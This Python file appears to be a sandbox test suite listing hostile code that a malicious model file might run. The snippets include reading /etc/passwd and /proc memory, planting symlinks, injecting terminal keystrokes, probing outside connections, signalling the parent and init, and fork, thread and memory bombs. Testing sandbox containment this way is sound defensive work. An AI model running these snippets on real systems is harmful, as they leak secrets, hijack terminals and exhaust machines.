"""What the code in a hostile model file tries: Python, which runs inside the sandbox."""

PRELUDE = """
import ctypes, fcntl, json, os, pathlib, signal, socket, stat, sys, threading, time

def known():
    "The folders that the process was told of: on the stack, as whoever attacks finds them."
    folders, frame = {"/", "/tmp", "/dev/shm", "/var/tmp", "/run", os.getcwd(), HOME, ROOT, PROJECT}, sys._getframe()
    folders |= {path for path in sys.path if os.path.isdir(path)}
    while frame:
        values = [kept for kept in (frame.f_locals, frame.f_globals) if isinstance(kept, dict)]
        for value in [value for kept in values for value in list(kept.values())]:
            if isinstance(value, (str, pathlib.Path)) and str(value).startswith("/") and len(str(value)) < 300:
                folders |= {str(value), os.path.dirname(str(value))}
        frame = frame.f_back
    return sorted(folders)

def attempt(*calls):
    "Do what can be done; say what could."
    done = []
    for call in calls:
        try:
            done.append(str(call()))
        except OSError:
            pass
    return done

def write(path, text):
    with open(path, "w") as file:
        file.write(text)
    return path

def to_every_stream(data):
    for stream in range(1, 64):
        try:
            left = memoryview(data)
            while left:
                left = left[os.write(stream, left):]
        except OSError:
            pass

class End(Exception):
    pass

def end(done=()):
    raise End(" ".join(done))
"""

ATTACKS = {
    "writes files": """
        end(attempt(*(lambda path=path: write(f"{path}/{MARK}", "x") for path in known())))
    """,
    "writes a train.py for the file": """
        for folder in known():
            attempt(lambda: os.unlink(f"{folder}/model.joblib"), lambda: os.unlink(f"{folder}/model.skops"))
        text = f"open({VICTIM!r}, 'w').write('owned')"
        done = attempt(*(lambda folder=folder: write(f"{folder}/train.py", text) for folder in known()))
        end(done)
    """,
    "plants links": """
        plant = [lambda path=f"{folder}/{name}": os.symlink(VICTIM, path) or path
                 for folder in known() for name in ("model.yaml", "record.json", "model.joblib", "train.py", MARK)]
        plant += [lambda path=f"{folder}/{MARK}.hard": os.link(__import__("json").__file__, path) or path
                  for folder in known()]
        plant += [lambda path=f"{folder}/{MARK}.fifo": os.mkfifo(path) or path for folder in known()]
        plant += [lambda path=f"{folder}/{MARK}.d": os.mkdir(path) or path for folder in known()]
        end(attempt(*plant))
    """,
    "writes a huge file": """
        def huge(folder):
            path = f"{folder}/{MARK}.huge"
            with open(path, "wb") as file:
                file.truncate(10 << 30)
            return path
        def memory():
            number = os.memfd_create("m")
            os.ftruncate(number, 10 << 30)
            return "memfd"
        end(attempt(*(lambda folder=folder: huge(folder) for folder in known()), memory))
    """,
    "reads other processes": """
        def of(number, name):
            with open(f"/proc/{number}/{name}", "rb") as file:
                return f"{number}/{name} {file.read(20)}"
        processes = {1, 2, os.getpid(), os.getppid(), PARENT}
        end(attempt(*(lambda number=number, name=name: of(number, name)
                      for number in processes for name in ("environ", "mem", "maps", "cmdline", "root/etc/passwd"))))
    """,
    "reads files": """
        def of(path):
            with open(path) as file:
                return path + file.read(9)
        end(attempt(*(lambda path=path: of(path) for path in
                      (VICTIM, "/etc/passwd", "/etc/hostname", HOME + "/.bashrc", ROOT + "/Pipfile"))))
    """,
    "calls home": """
        def connect(family, address):
            with socket.socket(family) as plug:
                plug.settimeout(2)
                plug.connect(address)
                return str(address)
        addresses = [(socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET, ("1.1.1.1", 80)),
                     (socket.AF_UNIX, chr(0) + ABSTRACT), (socket.AF_UNIX, "/run/dbus/system_bus_socket")]
        end(attempt(*(lambda family=family, address=address: connect(family, address)
                      for family, address in addresses)))
    """,
    "signals the parent": """
        def send(number, what):
            os.kill(number, what)
            return f"{number} {what}"
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        attempt(*(lambda number=number: send(number, signal.SIGTERM) for number in (os.getppid(), 1, 0, -1)),
                lambda: send(1, signal.SIGKILL), lambda: send(1, signal.SIGSTOP))
        end(attempt(lambda: send(PARENT, 0)) if PARENT != os.getpid() else [])
    """,
    "types at the terminal": """
        def type_at(path):
            number = os.open(path, os.O_RDWR)
            fcntl.ioctl(number, 0x5412, b"x")
            return path
        end(attempt(*(lambda path=path: type_at(path) for path in ("/dev/tty", "/dev/stderr", "/dev/console")),
                    *(lambda number=number: fcntl.ioctl(number, 0x5412, b"x") for number in range(16))))
    """,
    "traces and mounts": """
        libc = ctypes.CDLL(None, use_errno=True)
        calls = {"unshare": (0x10000000,), "ptrace": (16, PARENT, 0, 0), "mount": (b"x", b"/tmp", b"tmpfs", 0, 0),
                 "shmget": (0, 1 << 20, 0o1600), "setns": (0, 0), "pivot_root": (b"/", b"/")}
        end([name for name, values in calls.items() if getattr(libc, name, lambda *_: -1)(*values) != -1])
    """,
    "takes all memory": """
        kept = []
        try:
            while True:
                kept.append(bytearray(1 << 28))
        except MemoryError:
            size = len(kept) >> 2
            kept.clear()
            end([f"{size} GiB"] if size >= 9 else [])
    """,
    "starts processes without end": """
        def fork():
            if not (number := os.fork()):
                time.sleep(60)
                os._exit(0)
            return number
        done = attempt(*[fork] * 2000)
        end([f"{len(done)} processes"] if len(done) > 600 else [])
    """,
}
"""What a file's code does → the code, which ends by saying what could be done: nothing."""

ENDLESS = {
    "leaves a process with the pipes": """
        try:
            if not os.fork():
                os.setsid()
                time.sleep(1000)
        finally:
            os._exit(0)
    """,
    "prints without end": """
        while True:
            to_every_stream(b"x" * (1 << 20))
    """,
    "prints messages without end": """
        while True:
            os.write(2, b"x" * (1 << 20))
    """,
    "prints ten gibibytes": """
        for _ in range(10 << 10):
            to_every_stream(b"x" * (1 << 20))
        end()
    """,
    "never ends": """
        while True:
            pass
    """,
    "sleeps": """
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
        time.sleep(1000)
    """,
    "answers drop by drop": """
        while True:
            to_every_stream(b"{")
            time.sleep(0.05)
    """,
    "starts threads without end": """
        threading.stack_size(32768)
        count = 0
        try:
            for count in range(20000):
                threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError:
            pass
        os.write(2, f"{count} threads".encode())
        os._exit(4)
    """,
    "says that the sandbox is broken": """
        os.write(2, b"bwrap: No permissions to create new namespace")
        os._exit(1)
    """,
}
"""What a file's code does → the code, which ends the process or has to be ended."""
